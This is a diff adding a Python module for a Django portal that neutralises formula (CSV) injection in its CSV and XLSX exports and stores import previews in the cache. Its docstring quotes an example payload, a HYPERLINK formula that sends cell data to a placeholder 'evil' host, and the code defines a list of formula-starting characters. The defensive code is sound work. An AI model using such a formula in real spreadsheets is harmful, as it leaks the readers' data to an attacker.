@@ -1,0 +1,102 @@
+"""Spreadsheets that leave the portal, safe to open.
+
+A citizen types their own name; a name like `=HYPERLINK("http://evil/?"&A1)`
+must stay text in the official's spreadsheet program. In an XLSX file every
+string is written as a text cell (openpyxl would otherwise store a string
+starting with "=" as a formula); in a CSV file, where there are no types, a
+cell starting with a character that spreadsheet programs read as a formula
+gets a leading apostrophe (as OWASP's "CSV injection" advice says).
+
+Every export uses this: django-import-export's (through SafeCSV and
+SafeXLSX), the day list's and the dashboard's. PreviewStorage keeps an
+import's masked copy between preview and confirmation.
+"""
+
+import io
+import re
+import uuid
+from collections.abc import Iterable, Sequence
+
+import tablib
+from django.conf import settings
+from django.core.cache import cache
+from import_export.formats import base_formats
+from import_export.tmp_storages import CacheStorage
+
+# Spreadsheet programs start a formula (or DDE) with these; a tab or carriage
+# return first can hide one from a glance.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def neutralised(value: object) -> object:
+    """A CSV cell: text that would start a formula gets a leading apostrophe."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def text_cells(sheet, rows: Iterable[Sequence[object]]) -> None:
+    """Appends rows to an openpyxl sheet, every string as a text cell."""
+    for row in rows:
+        sheet.append(list(row))
+        for cell in sheet[sheet.max_row]:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+
+
+def xlsx_bytes(title: str, rows: Iterable[Sequence[object]], *, bold_rows: int = 1) -> bytes:
+    """A one-sheet workbook; the first `bold_rows` rows are headers."""
+    from openpyxl import Workbook
+    from openpyxl.styles import Font
+
+    book = Workbook()
+    sheet = book.active
+    # Excel's rules for a sheet's name: at most 31 characters, none of []:*?/\
+    sheet.title = re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Sheet"
+    text_cells(sheet, rows)
+    for row in sheet.iter_rows(max_row=bold_rows):
+        for cell in row:
+            cell.font = Font(bold=True)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def csv_text(dataset: tablib.Dataset, *, neutralise: bool = True) -> str:
+    """The dataset as CSV; `neutralise=False` only for a copy that is read
+    back by Teeka itself (an import waiting for confirmation)."""
+    if not neutralise:
+        return dataset.export("csv")
+    safe = tablib.Dataset(headers=[neutralised(h) for h in dataset.headers or []])
+    for row in dataset:
+        safe.append([neutralised(v) for v in row])
+    return safe.export("csv")
+
+
+class SafeCSV(base_formats.CSV):
+    """django-import-export's CSV, with formula-looking cells neutralised."""
+
+    def export_data(self, dataset: tablib.Dataset, **kwargs) -> str:
+        return csv_text(dataset)
+
+
+class SafeXLSX(base_formats.XLSX):
+    """django-import-export's XLSX, every string a text cell."""
+
+    def export_data(self, dataset: tablib.Dataset, **kwargs) -> bytes:
+        return xlsx_bytes(dataset.title or "Sheet", [dataset.headers or [], *dataset])
+
+
+class PreviewStorage(CacheStorage):
+    """Where an import waits between its preview and its confirmation: the
+    cache, for TEEKA_IMPORT_PREVIEW_SECONDS, never a file on disk. An
+    abandoned preview simply expires. The key is made here (a random UUID);
+    registrations.admin.imports accepts back only keys it handed to the same
+    signed-in session."""
+
+    def save(self, data) -> None:
+        self.name = self.name or uuid.uuid4().hex
+        cache.set(self.CACHE_PREFIX + self.name, data, settings.TEEKA_IMPORT_PREVIEW_SECONDS)
+
+    def exists(self) -> bool:
+        return bool(self.name) and cache.get(self.CACHE_PREFIX + self.name) is not None
